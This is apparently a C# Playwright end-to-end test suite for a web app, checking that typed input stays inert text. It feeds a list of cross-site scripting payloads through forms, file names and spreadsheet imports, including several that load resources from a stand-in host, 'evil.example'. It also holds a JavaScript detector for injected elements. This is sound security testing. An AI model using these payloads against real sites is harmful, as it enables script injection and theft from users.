using ClosedXML.Excel;
using Microsoft.EntityFrameworkCore;
using Microsoft.Playwright;

namespace Declarations.EndToEnd.Tests;

/// <summary>A city of its own, in which somebody types script into every field that others read.</summary>
public sealed class TaintedApp : App;

/// <summary>
/// What people type is text to whoever reads it: each kind of script goes through the real forms into names, files, remarks and
/// addresses, and is looked at by the other side. No dialog, no complaint of the browser, no element, no request that was not ours.
/// </summary>
[Collection(nameof(InjectionTests))]
public sealed class InjectionTests(TaintedApp app, ITestOutputHelper output) : IClassFixture<TaintedApp>
{
    /// <summary>One of a kind each, at most 60 characters, so that it fits a name.</summary>
    private static readonly string[] Scripts =
    [
        // tags, at once or after leaving where the text stands
        "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</script><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "<ScRiPt/x>alert(1)</sCrIpT >",
            "<script src=//evil.example/x.js></script>",
        "<noscript><i title=\"</noscript><img src=x onerror=alert(1)>", "<template><script>alert(1)</script></template>",
            "<xmp><img src=x onerror=alert(1)></xmp>",
        // events
        "<img src=x onerror=alert(1)>", "</select><img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
        "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
            "<marquee onstart=alert(1)>",
        // attributes
        "\" autofocus onfocus=\"alert(1)", "' onmouseover='alert(1)' x='", "` onclick=alert(1) `", "\" style=\"background:url(//evil.example)",
            "x onfocus=alert(1) tabindex=1",
        // addresses and frames
        "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>", "<iframe src=javascript:alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data='data:text/html,<script>alert(1)</script>'>", "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>",
            "<form action=//evil.example><button>x</button>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
            "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        // style and templates
        "<style>*{display:none}</style>", "<style>@import'//evil.example/x.css';</style>", "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)}<%=alert(1)%>#{alert(1)}@(alert(1))",
        // written otherwise
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "%3Cscript%3Ealert(1)%3C/script%3E",
        "＜script＞alert(1)＜/script＞", "\u202E<script>alert(1)</script>", "<scr\u200Bipt>alert(1)</scr\u200Bipt>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "<ſcript>alert(1)</ſcript>",
    ];

    /// <summary>Elements and attributes that no page of the product has; of the page that is open, or of this markup.</summary>
    private const string Alien = """
        markup => [...(markup ? new DOMParser().parseFromString(markup, 'text/html') : document).querySelectorAll('*')].filter(e =>
            ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'STYLE', 'MATH', 'VIDEO', 'MARQUEE', 'XMP', 'TEMPLATE', 'ANIMATE'].includes(e.nodeName.toUpperCase())
            || ['SCRIPT', 'IMG'].includes(e.nodeName.toUpperCase()) && !/^\/[^\/]/.test(e.getAttribute('src') ?? '')
            || [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'style' || a.name === 'srcdoc' || a.name === 'http-equiv'
                || ['href', 'src', 'action', 'formaction', 'data'].includes(a.name) && /^\s*(javascript:|data:|\/\/|https?:)/i.test(a.value)))
            .map(e => e.outerHTML.slice(0, 200))
        """;

    private const string Everything =
        "() => document.documentElement.textContent + [...document.querySelectorAll('input, textarea')].map(e => e.value).join('\\n')";

    private readonly Dictionary<string, int> sightings = Scripts.ToDictionary(script => script, _ => 0);
    private readonly List<string> faults = [];
    private int next, stored, pages;

    [Fact]
    public async Task Script_that_is_typed_is_text_to_whoever_reads_it()
    {
        Assert.All(Scripts, script => Assert.True(script.Length <= 60, script));
        await using var office = await WatchedAsync("office");
        var staff = await ImportAsync(office);
        await LookAsync(office, "/roster/people?search=XSS", $"/campaigns/{App.Campaign}/people", "/slips", "/slips/xss-00", $"/roster/people/{staff}",
            $"/slips/person/{staff}", "/my-work");
        await office.Page.GotoAsync($"/slips/person/{staff}");
        await office.PressAsync("打印启用单");
        await LookAsync(office);

        await using var filer = await WatchedAsync("returned");
        var report = await FileAsync(filer);
        await using var head = await WatchedAsync("head");
        await LookAsync(head, "/reading", $"/reading/{report}");
        await head.Page.GetByLabel("哪一处").First.SelectOptionAsync(new SelectOptionValue { Index = 1 });
        await FillAsync(head, "[name='Return.Comment']", 500);
        await head.PressAsync("退回");
        await LookAsync(filer, "/my-work", $"/report/{App.Campaign}/check", $"/report/{App.Campaign}/details");
        await LookAsync(office, $"/reports/{report}", $"/reports/{report}/form", $"/summary?campaign={App.Campaign}");

        await filer.Page.GotoAsync("/correction");
        await filer.TickAsync("其他内容");
        await FillAsync(filer, "[name='Form.Text']", 500);
        await filer.PressAsync("提交申请");
        await LookAsync(filer);
        await office.Page.GotoAsync("/roster/requests");
        await office.GoAsync(office.Page.Locator("tbody th a").First);
        await office.TickAsync("未采纳");
        await FillAsync(office, "[name='Form.Answer']", 500);
        await LookAsync(office);
        await office.PressAsync("答复");
        await LookAsync(office, "/roster/requests?answered=true");
        await LookAsync(filer, "/correction", "/my-work");
        await office.Page.GotoAsync($"/roster/people/{staff}");
        await office.TickAsync("去世");
        await office.FillAsync("去世日期", "2017-09-08");
        await FillAsync(office, "[name='Form.Reason']", 200);
        await office.PressAsync("登记");
        await LookAsync(office, $"/roster/people/{staff}");

        await using (var discipline = await WatchedAsync("discipline"))
            await LookAsync(discipline, "/discipline", $"/reports/{report}");
        await using (var audit = await WatchedAsync("audit"))
            await LookAsync(audit, "/admin/audit", "/admin/audit?action=OfficialDied");
        await using (var system = await WatchedAsync("system"))
            foreach (var script in Scripts)
                await LookAsync(system, "/admin/accounts?name=" + Uri.EscapeDataString(script));
        foreach (var script in Scripts)
            await LookAsync(office, "/roster/people?search=" + Uri.EscapeDataString(script), "/verify?number=" + Uri.EscapeDataString(script) + "&digest="
                + Uri.EscapeDataString(script));

        output.WriteLine($"{Scripts.Length} kinds of script, typed {stored} times, read {sightings.Values.Sum()} times (each at least "
            + $"{sightings.Values.Min()}) on {pages} pages by 6 readers: {faults.Count} dialogs, complaints, elements or requests");
        Assert.True(faults.Count == 0, string.Join('\n', faults.Distinct()));
        Assert.All(sightings, sighting => Assert.True(sighting.Value >= 3, $"{sighting.Key} was read {sighting.Value} times"));
    }

    [Fact]
    public async Task The_look_for_alien_elements_finds_them_where_a_page_does_not_encode()
    {
        await using var nobody = await app.VisitAsync(null);
        var found = 0;
        foreach (var script in Scripts)
            found += (await nobody.Page.EvaluateAsync<string[]>(
                Alien, $"<p>{script}</p><p title=\"{script}\"></p><p title='{script}'></p><a href=\"{script}\"></a>")).Length > 0 ? 1 : 0;
        output.WriteLine($"{found} of {Scripts.Length} would have come alive");
        Assert.True(found >= 40, $"Only {found} would have been found.");
    }

    private async Task<Visit> WatchedAsync(string user)
    {
        var visit = await app.VisitAsync(user);
        visit.Page.Dialog += async (_, dialog) =>
        {
            faults.Add($"{user}: a dialog on {visit.Page.Url}");
            await dialog.DismissAsync();
        };
        visit.Page.Request += (_, request) =>
        {
            if (!request.Url.StartsWith("http://localhost:", StringComparison.Ordinal))
                faults.Add($"{user}: a request to {request.Url}");
        };
        return visit;
    }

    /// <summary>The page that is open, or these one after the other.</summary>
    private async Task LookAsync(Visit visit, params string[] addresses)
    {
        foreach (var address in addresses.Length == 0 ? [""] : addresses)
        {
            if (address.Length > 0)
                await visit.Page.GotoAsync(address);
            pages++;
            faults.AddRange((await visit.Page.EvaluateAsync<string[]>(Alien, "")).Select(element => $"{visit.Page.Url}: {element}"));
            faults.AddRange(visit.Complaints.Where(complaint => !complaint.Contains("status of 400", StringComparison.Ordinal))
                .Select(complaint => $"{visit.Page.Url}: {complaint}"));
            var text = await visit.Page.EvaluateAsync<string>(Everything);
            foreach (var script in Scripts.Where(script => text.Contains(script, StringComparison.Ordinal)))
                sightings[script]++;
        }
    }

    /// <summary>As many of the scripts as fit, those that have waited longest.</summary>
    private async Task FillAsync(Visit visit, string field, int longest)
    {
        var control = visit.Page.Locator(field).First;
        if (!await control.IsVisibleAsync())
            return;
        var text = "";
        while (text.Length + Scripts[next % Scripts.Length].Length + 1 <= longest)
        {
            text += Scripts[next++ % Scripts.Length] + " ";
            stored++;
        }
        await control.FillAsync(text.TrimEnd());
    }

    /// <summary>A person, with a post and a unit, called after each of the scripts.</summary>
    /// <returns>The id of one of them.</returns>
    private async Task<Guid> ImportAsync(Visit office)
    {
        await office.Page.GotoAsync("/roster");
        var download = await office.DownloadAsync("下载模板");
        using var workbook = new XLWorkbook(new MemoryStream(await File.ReadAllBytesAsync((await download.PathAsync())!)));
        foreach (var (index, script) in Scripts.Index())
        {
            foreach (var (column, value) in new[] { $"XSS{index:00}", script, $"xss-{index:00}", script }.Index())
                workbook.Worksheet(1).Cell(index + 2, column + 1).SetValue(value);
            foreach (var (column, value) in new[] { $"xss-{index:00}", script, "科室", "demo-bureau" }.Index())
                workbook.Worksheet(2).Cell(index + 2, column + 1).SetValue(value);
            stored += 3;
        }
        using var file = new MemoryStream();
        workbook.SaveAs(file);
        await office.Page.SetInputFilesAsync("input[type=file]", new FilePayload
        { Name = "\"><img src=x onerror=alert(1)>.xlsx", MimeType = "application/octet-stream", Buffer = file.ToArray() });
        await office.Page.SelectOptionAsync("[name='Form.Campaign']", App.Campaign);
        await office.TickAsync("只有部分人员");
        await office.PressAsync("上传并预览");
        await LookAsync(office);
        await office.PressAsync("确认导入");
        for (var n = 0; n < 100 && await office.Page.GetByRole(AriaRole.Link, new() { Name = "刷新" }).CountAsync() > 0; n++)
            await office.FollowAsync("刷新");
        Assert.Contains("已导入", await office.TextAsync());
        await LookAsync(office, "/roster");
        await office.Page.GotoAsync("/roster/people?search=XSS00");
        return Guid.Parse((await office.Page.Locator("tbody th a").First.GetAttributeAsync("href"))!.Split('/')[^1]);
    }

    /// <summary>Changes an interest in every field that takes text, and signs.</summary>
    /// <returns>The report.</returns>
    private async Task<Guid> FileAsync(Visit filer)
    {
        await filer.Page.GotoAsync($"/report/{App.Campaign}/details");
        await filer.TickAsync("有误，请更正");
        await FillAsync(filer, "[name='Form.Correction']", 500);
        await filer.PressAsync("保存并继续");
        await filer.Page.GotoAsync($"/report/{App.Campaign}/check");
        await filer.GoAsync(filer.Page.Locator("a[href*='/interest/']:not([href$='/exit'])").First);
        foreach (var (field, longest) in new[] { ("Enterprise", 120), ("PostHeld", 100), ("Content", 500), ("FundsSource", 200), ("DutyNote", 300) })
            await FillAsync(filer, $"[name='Form.{field}']", longest);
        await filer.PressAsync("保存并继续");
        await LookAsync(filer);
        foreach (var (field, longest) in new[] { ("TransfereeName", 120), ("Evidence", 500), ("Reason", 500) })
            await FillAsync(filer, $"[name='Form.{field}']", longest);
        if (await filer.Page.Locator("input[type=file]").First.IsVisibleAsync())
            await filer.Page.SetInputFilesAsync("input[type=file]", new FilePayload
            { Name = "\"><svg onload=alert(1)>'.pdf", MimeType = "application/pdf", Buffer = "%PDF-1.4 %%EOF"u8.ToArray() });
        await filer.PressAsync("保存并继续");
        await LookAsync(filer, $"/report/{App.Campaign}/check");
        await filer.TickAsync("我已逐项核对，作出上述承诺");
        await filer.SignAsync("签字并提交");
        Assert.Contains("/receipt/", filer.Page.Url);
        await LookAsync(filer);
        return await app.InDb(db => db.Submissions.OrderByDescending(version => version.SubmittedAt).Select(version => version.ReportId).FirstAsync());
    }
}
